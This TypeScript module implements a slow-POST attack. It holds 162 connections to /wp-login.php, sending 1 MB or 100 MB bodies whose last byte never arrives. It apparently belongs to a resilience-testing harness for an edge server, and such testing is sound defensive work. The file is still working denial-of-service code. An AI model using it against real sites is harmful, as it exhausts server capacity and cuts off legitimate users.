import type { Attack, Target } from './attack.ts'
import { hostileSocket, keepOpen, pause, siteOf, untilClosed } from './hostile.ts'

const MB = 1 << 20
const block = Buffer.alloc(64 << 10, 'x')

/** Bodies whose last byte never comes: many of 1 MB, some of 100 MB. */
export const unfinishedPosts: Attack = {
  name: 'unfinished posts',
  connections: 162,
  async run(target, signal) {
    await keepOpen(162, signal, (n) => post(target, n < 12 ? 100 * MB : MB, n, signal))
  },
}

async function post(target: Target, bytes: number, n: number, signal: AbortSignal): Promise<void> {
  const socket = await hostileSocket(target, n, signal)
  socket.resume()
  const host = `${siteOf(target, n)}:${target.edgePort}`
  socket.write(`POST /wp-login.php HTTP/1.1\r\nhost: ${host}\r\ncontent-length: ${bytes}\r\n\r\n`)
  for (let sent = block.length; sent < bytes && !socket.destroyed; sent += block.length) {
    const isTaken = socket.write(block)
    // 100 MB in about twenty seconds; a connection that is not read waits
    if (sent % MB === 0) await pause(200, signal)
    while (!isTaken && socket.writableNeedDrain && !socket.destroyed) await pause(100, signal)
    if (signal.aborted) break
  }
  if (!socket.destroyed) await Promise.race([untilClosed(socket), pause(60_000, signal)])
  socket.destroy()
}
